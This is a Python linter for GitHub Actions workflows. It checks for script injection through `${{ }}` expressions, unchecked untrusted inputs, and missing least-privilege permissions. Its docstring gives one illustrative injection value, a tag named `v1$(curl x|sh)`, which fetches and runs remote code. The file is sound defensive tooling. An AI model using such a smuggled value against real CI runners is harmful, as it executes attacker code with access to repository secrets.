"""A lint for the GitHub workflows: what an attacker who names a tag, or fills in a dispatch
input, could make a runner do.

* No `${{ ... }}` inside a `run:` script. Actions substitutes expressions into the script text
  before the shell sees it, so a tag named `v1$(curl x|sh)` or an input with a quote in it
  becomes code. Values go through `env:` and are quoted as "$VAR" in the script.
* A job that takes inputs, the event or the ref name into its environment checks them first:
  its first `run:` step is `.github/scripts/plain-inputs`, naming every such variable.
* A reusable workflow's inputs (`on: workflow_call`) come from another repository's pipeline:
  each must reach its jobs through an `env:` variable that plain-inputs checks.
* Least privilege, written down: a top-level `permissions:` block, and the permissions that
  the actions used need (publishing JUnit as a check needs `checks: write`).
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import yaml

#: Expressions whose value someone outside the repository's maintainers can choose.
UNTRUSTED = re.compile(r"\$\{\{[^}]*\b(?:inputs\.|github\.event\.|github\.ref_name|"
                       r"github\.ref\b|github\.head_ref)")
CHECKER = ".github/scripts/plain-inputs"
#: Actions and the permissions (scope: level) they need.
NEEDS = {"mikepenz/action-junit-report": {"checks": "write"}}


def lint_text(text: str, name: str = "<workflow>") -> list[str]:
    """Every problem in one workflow, as "name: where: what"."""
    try:
        doc = yaml.safe_load(text)
    except yaml.YAMLError as exc:
        return [f"{name}: not valid YAML: {exc}"]
    if not isinstance(doc, dict) or not isinstance(doc.get("jobs"), dict):
        return [f"{name}: not a workflow (no jobs mapping)"]
    problems: list[str] = []
    top = doc.get("permissions")
    if not isinstance(top, dict):
        problems.append(f"{name}: no top-level permissions block (the default token can write "
                        "to the repository)")
    for job_name, job in doc["jobs"].items():
        if not isinstance(job, dict):
            problems.append(f"{name}: jobs.{job_name}: not a mapping")
            continue
        granted = {**(top if isinstance(top, dict) else {}), **(job.get("permissions") or {})}
        problems += [f"{name}: jobs.{job_name}: {p}" for p in _job(job, granted)]
    problems += [f"{name}: {p}" for p in _called(doc)]
    return problems


def _called(doc: dict[str, Any]) -> list[str]:
    """workflow_call inputs that no job passes through a checked env variable."""
    on = doc.get("on", doc.get(True)) or {}  # YAML 1.1 reads a bare `on:` key as True
    call = on.get("workflow_call") if isinstance(on, dict) else None
    inputs = (call or {}).get("inputs") or {} if isinstance(call, dict) else {}
    checked: set[str] = set()
    for job in doc["jobs"].values():
        if not isinstance(job, dict):
            continue
        runs = [str(s["run"]) for s in job.get("steps") or [] if isinstance(s, dict)
                and "run" in s]
        named = set(re.findall(r"\b([A-Z_][A-Z0-9_]*):", runs[0])) \
            if runs and CHECKER in runs[0] else set()
        checked |= {m for var, value in (job.get("env") or {}).items() if var in named
                    for m in re.findall(r"\binputs\.([\w-]+)", str(value))}
    return [f"on.workflow_call.inputs.{i}: reaches no job through an env: variable that "
            f"{CHECKER} checks" for i in inputs if i not in checked]


def _job(job: dict[str, Any], granted: dict[str, str]) -> list[str]:
    problems = []
    steps = [s for s in job.get("steps") or [] if isinstance(s, dict)]
    tainted = {var for var, value in (job.get("env") or {}).items()
               if UNTRUSTED.search(str(value))}
    runs = []
    for i, step in enumerate(steps):
        where = f"steps[{i}]" + (f" ({step['name']})" if step.get("name") else "")
        tainted |= {var for var, value in (step.get("env") or {}).items()
                    if UNTRUSTED.search(str(value))}
        if "run" in step:
            script = str(step["run"])
            runs.append(script)
            for m in re.finditer(r"\$\{\{.*?\}\}", script, re.S):
                problems.append(f"{where}: `{m.group(0)}` is expanded inside a run: script; "
                                "pass it through env: and quote it as \"$VAR\"")
        uses = str(step.get("uses", "")).split("@", 1)[0]
        for scope, level in NEEDS.get(uses, {}).items():
            if granted.get(scope) != level:
                problems.append(f"{where}: {uses} needs `permissions: {scope}: {level}`")
    if tainted:
        first = runs[0] if runs else ""
        named = set(re.findall(r"\b([A-Z_][A-Z0-9_]*):", first))
        if CHECKER not in first:
            problems.append(f"takes {', '.join(sorted(tainted))} from inputs, the event or the "
                            f"ref, but its first run: step is not {CHECKER}")
        elif tainted - named:
            problems.append(f"{CHECKER} does not check {', '.join(sorted(tainted - named))}")
    return problems


def lint(folder: Path) -> list[str]:
    """Every problem in every workflow under `folder`."""
    files = sorted([*folder.glob("*.yml"), *folder.glob("*.yaml")])
    return [p for f in files for p in lint_text(f.read_text(encoding="utf-8"), f.name)]
